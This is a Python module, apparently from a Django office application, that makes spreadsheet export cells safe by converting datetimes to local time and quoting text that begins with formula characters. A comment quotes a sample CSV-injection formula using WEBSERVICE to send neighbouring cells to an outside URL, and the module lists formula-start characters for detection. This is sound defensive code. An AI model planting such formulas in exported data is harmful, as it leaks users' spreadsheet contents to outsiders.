"""Cells bound for a spreadsheet (the Excel and CSV exports, the access log's CSV): what a
petitioner or a user typed is text there, never a formula; a moment is a real date."""

from datetime import date, datetime
from decimal import Decimal

from django.utils import timezone

# A spreadsheet reads text that begins with one of these as a formula (or, for tab and
# carriage return, shifts it into one): `=WEBSERVICE("http://…"&B5)` in a petitioner's
# summary would call out with the neighbouring cells. A leading quote makes it plain
# text in both kinds of file (the OWASP CSV-injection rule).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Excel's number formats for the moments and days of an export (the office's own way of
# writing them, as on the pages).
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
DATE_FORMAT = "yyyy-mm-dd"


def local_moment(moment: datetime) -> datetime:
    """A moment as the office's wall clock reads it, without a zone: Excel has no time
    zones, so an aware 01:00 UTC must reach it as 09:00 (Asia/Shanghai), not 01:00."""
    if timezone.is_aware(moment):
        moment = timezone.localtime(moment)
    return moment.replace(tzinfo=None, microsecond=0)


def safe_cell(value):
    """A cell for the Excel writer: numbers stay numbers, moments and days stay dates (a
    moment in local time), any text is inert."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)):
        return value
    if isinstance(value, datetime):
        return local_moment(value)
    if isinstance(value, date):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def text_cell(value):
    """A cell for the CSV writer: as `safe_cell`, a moment written as the pages write it
    (local time, to the minute), a day as yyyy-mm-dd."""
    value = safe_cell(value)
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.strftime("%Y-%m-%d")
    return value
